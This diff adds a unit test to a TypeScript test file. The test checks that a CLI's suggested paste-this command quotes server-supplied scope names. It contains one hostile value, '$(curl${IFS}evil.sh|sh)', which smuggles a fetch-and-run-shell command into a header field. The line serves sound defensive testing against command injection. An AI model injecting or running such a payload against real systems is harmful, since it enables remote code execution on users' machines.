@@ -99,3 +99,22 @@ describe('explainFailure', () => {
     expect(explainFailure({ ...base, status: 503, identity: null })?.reason).toBe('server_error');
   });
 });
+
+describe('commands the explanation tells the user to paste', () => {
+  it('quote scope names from the server, so a pasted command cannot run what they hold', () => {
+    const hostile = '$(curl${IFS}evil.sh|sh)';
+    const explained = explainFailure({
+      ...base,
+      status: 403,
+      headers: {
+        'www-authenticate': `Bearer error="insufficient_scope", scope="${hostile}"`,
+      },
+      identity: identity({ scopes: ['read'] }),
+      profile: { name: 'app', grant: 'client_credentials', preset: 'generic', scopes: ['read'] },
+    });
+    expect(explained?.reason).toBe('missing_scope');
+    expect(explained?.nextStep).toContain(
+      `keyhole profiles edit app --scope read --scope '${hostile}'`,
+    );
+  });
+});
